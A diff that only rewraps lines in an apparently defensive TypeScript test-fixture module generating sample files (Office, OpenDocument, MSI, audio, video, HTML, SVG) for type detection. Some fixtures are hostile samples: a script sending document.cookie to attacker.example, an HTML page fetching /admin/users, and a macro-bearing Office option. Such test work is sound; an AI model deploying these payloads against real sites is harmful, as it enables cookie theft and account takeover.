@@ -141,7 +141,11 @@ const OOXML_MAIN: Record<'word' | 'xl' | 'ppt', { part: string; type: string; re
     type: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
     relType: 'officeDocument',
   },
-  xl: { part: 'xl/workbook.xml', type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', relType: 'officeDocument' },
+  xl: {
+    part: 'xl/workbook.xml',
+    type: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml',
+    relType: 'officeDocument',
+  },
   ppt: {
     part: 'ppt/presentation.xml',
     type: 'application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml',
@@ -149,7 +153,11 @@ const OOXML_MAIN: Record<'word' | 'xl' | 'ppt', { part: string; type: string; re
   },
 };
 
-function officeOpenXml(folder: 'word' | 'xl' | 'ppt', mainXml: string, { macros = false, extraEntries = 0 }: OfficeOptions): Buffer {
+function officeOpenXml(
+  folder: 'word' | 'xl' | 'ppt',
+  mainXml: string,
+  { macros = false, extraEntries = 0 }: OfficeOptions
+): Buffer {
   const main = OOXML_MAIN[folder];
   const entries: ZipEntryInput[] = [
     {
@@ -171,9 +179,13 @@ function officeOpenXml(folder: 'word' | 'xl' | 'ppt', mainXml: string, { macros 
     },
     { name: main.part, data: xml(mainXml) },
   ];
-  if (macros) entries.push({ name: `${folder}/vbaProject.bin`, data: compoundFile({ VBA: Buffer.from('Attribute VB_Name') }) });
+  if (macros)
+    entries.push({ name: `${folder}/vbaProject.bin`, data: compoundFile({ VBA: Buffer.from('Attribute VB_Name') }) });
   for (let index = 0; index < extraEntries; index += 1) {
-    entries.push({ name: `${folder}/customXml/item-with-a-rather-long-name-${String(index).padStart(6, '0')}.xml`, data: xml('<x/>') });
+    entries.push({
+      name: `${folder}/customXml/item-with-a-rather-long-name-${String(index).padStart(6, '0')}.xml`,
+      data: xml('<x/>'),
+    });
   }
   return zipArchive(entries);
 }
@@ -222,15 +234,32 @@ function openDocument(mimetype: string, body: string): Buffer {
           '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>'
       ),
     },
-    { name: 'content.xml', data: xml(`<office:document-content ${ns} office:version="1.2"><office:body>${body}</office:body></office:document-content>`) },
+    {
+      name: 'content.xml',
+      data: xml(
+        `<office:document-content ${ns} office:version="1.2"><office:body>${body}</office:body></office:document-content>`
+      ),
+    },
   ]);
 }
 
-export const odt = ({ text = 'Ban Dân vận', mimetype = 'application/vnd.oasis.opendocument.text' }: OpenDocumentOptions = {}): Buffer =>
-  openDocument(mimetype, `<office:text><text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">${text}</text:p></office:text>`);
+export const odt = ({
+  text = 'Ban Dân vận',
+  mimetype = 'application/vnd.oasis.opendocument.text',
+}: OpenDocumentOptions = {}): Buffer =>
+  openDocument(
+    mimetype,
+    `<office:text><text:p xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">${text}</text:p></office:text>`
+  );
 
-export const ods = ({ text = 'Sheet1', mimetype = 'application/vnd.oasis.opendocument.spreadsheet' }: OpenDocumentOptions = {}): Buffer =>
-  openDocument(mimetype, `<office:spreadsheet><table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" table:name="${text}"/></office:spreadsheet>`);
+export const ods = ({
+  text = 'Sheet1',
+  mimetype = 'application/vnd.oasis.opendocument.spreadsheet',
+}: OpenDocumentOptions = {}): Buffer =>
+  openDocument(
+    mimetype,
+    `<office:spreadsheet><table:table xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" table:name="${text}"/></office:spreadsheet>`
+  );
 
 /** A plain ZIP holding a script: an archive is never a document. */
 export const zip = (): Buffer => zipArchive([{ name: 'payload.js', data: js() }]);
@@ -253,11 +282,16 @@ export interface CompoundOptions {
 
 /** A Word 97-2003 document: its "WordDocument" stream begins with the FIB's magic 0xA5EC. */
 export const doc = ({ text = 'Ban Dan van' }: CompoundOptions = {}): Buffer =>
-  compoundFile({ WordDocument: Buffer.concat([Buffer.from([0xec, 0xa5, 0xc1, 0x00]), Buffer.from(text)]), '1Table': Buffer.alloc(16) });
+  compoundFile({
+    WordDocument: Buffer.concat([Buffer.from([0xec, 0xa5, 0xc1, 0x00]), Buffer.from(text)]),
+    '1Table': Buffer.alloc(16),
+  });
 
 /** An Excel 97-2003 workbook: its "Workbook" stream begins with a BIFF8 BOF record. */
 export const xls = ({ text = 'Sheet1' }: CompoundOptions = {}): Buffer =>
-  compoundFile({ Workbook: Buffer.concat([Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]), Buffer.from(text)]) });
+  compoundFile({
+    Workbook: Buffer.concat([Buffer.from([0x09, 0x08, 0x10, 0x00, 0x00, 0x06, 0x05, 0x00]), Buffer.from(text)]),
+  });
 
 /** A PowerPoint 97-2003 presentation. */
 export const ppt = ({ text = 'slides' }: CompoundOptions = {}): Buffer =>
@@ -265,7 +299,10 @@ export const ppt = ({ text = 'slides' }: CompoundOptions = {}): Buffer =>
 
 /** Shaped like a Windows Installer package: a compound file, but none of Word, Excel or PowerPoint. */
 export const msi = (): Buffer =>
-  compoundFile({ '\u0005SummaryInformation': Buffer.alloc(48), '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': Buffer.from('MSI tables') });
+  compoundFile({
+    '\u0005SummaryInformation': Buffer.alloc(48),
+    '\u4840\u3f3f\u4577\u446c\u3b6a\u45e4\u4824': Buffer.from('MSI tables'),
+  });
 
 /* --------------------------------------------------------------------------------------------
  * Audio and video (headers and a little structure: enough for type detection, not for playback)
@@ -287,7 +324,12 @@ export function mp3({ frames = 8, id3 = true, tagPadding = 0, title = 'Ban Dan v
   frame.set([0xff, 0xfb, 0x90, 0x64]); // sync, MPEG-1 Layer III, 128 kbit/s, 44.1 kHz, joint stereo
   const audio = Buffer.concat(Array.from({ length: frames }, () => frame));
   if (!id3) return audio;
-  const titleFrame = Buffer.concat([Buffer.from('TIT2'), Buffer.alloc(6), Buffer.from([0]), Buffer.from(title, 'latin1')]);
+  const titleFrame = Buffer.concat([
+    Buffer.from('TIT2'),
+    Buffer.alloc(6),
+    Buffer.from([0]),
+    Buffer.from(title, 'latin1'),
+  ]);
   titleFrame.writeUInt32BE(title.length + 1, 4);
   const tagBody = Buffer.concat([titleFrame, Buffer.alloc(tagPadding)]);
   const header = Buffer.from([0x49, 0x44, 0x33, 3, 0, 0, 0, 0, 0, 0]);
@@ -311,7 +353,14 @@ export interface IsoMediaOptions {
 
 /** An MP4: ftyp, then a movie header box and a little media data. */
 export function mp4({ brand = 'isom', compatible = ['isom', 'iso2', 'avc1', 'mp41'] }: IsoMediaOptions = {}): Buffer {
-  const ftyp = box('ftyp', Buffer.concat([Buffer.from(brand, 'latin1'), Buffer.from([0, 0, 2, 0]), ...compatible.map((b) => Buffer.from(b, 'latin1'))]));
+  const ftyp = box(
+    'ftyp',
+    Buffer.concat([
+      Buffer.from(brand, 'latin1'),
+      Buffer.from([0, 0, 2, 0]),
+      ...compatible.map((b) => Buffer.from(b, 'latin1')),
+    ])
+  );
   const mvhd = box('mvhd', Buffer.alloc(100));
   return Buffer.concat([ftyp, box('moov', mvhd), box('mdat', Buffer.alloc(64))]);
 }
@@ -350,9 +399,12 @@ export const mkv = (): Buffer => ebmlFile('matroska');
  * ------------------------------------------------------------------------------------------ */
 
 export const html = (): Buffer =>
-  Buffer.from('<!DOCTYPE html>\n<html><head><title>Ảnh</title></head><body><script>fetch("/admin/users").then(r => r.text()).then(alert)</script></body></html>\n');
+  Buffer.from(
+    '<!DOCTYPE html>\n<html><head><title>Ảnh</title></head><body><script>fetch("/admin/users").then(r => r.text()).then(alert)</script></body></html>\n'
+  );
 
-export const js = (): Buffer => Buffer.from('fetch("https://attacker.example/steal?c=" + encodeURIComponent(document.cookie));\n');
+export const js = (): Buffer =>
+  Buffer.from('fetch("https://attacker.example/steal?c=" + encodeURIComponent(document.cookie));\n');
 
 export interface SvgOptions {
   /** Inner markup of the <svg> root. */
@@ -362,12 +414,17 @@ export interface SvgOptions {
 }
 
 /** A clean SVG picture. */
-export function svg({ body = '<rect x="1" y="1" width="8" height="8" fill="#c00"/>', prolog = false }: SvgOptions = {}): Buffer {
+export function svg({
+  body = '<rect x="1" y="1" width="8" height="8" fill="#c00"/>',
+  prolog = false,
+}: SvgOptions = {}): Buffer {
   const head = prolog
     ? '<?xml version="1.0" encoding="UTF-8"?>\n<!-- Generator: a drawing program -->\n' +
       '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
     : '';
-  return Buffer.from(`${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${body}</svg>\n`);
+  return Buffer.from(
+    `${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 10 10">${body}</svg>\n`
+  );
 }
 
 /** An SVG that runs script three ways: a <script> element, an event handler and a javascript: link. */
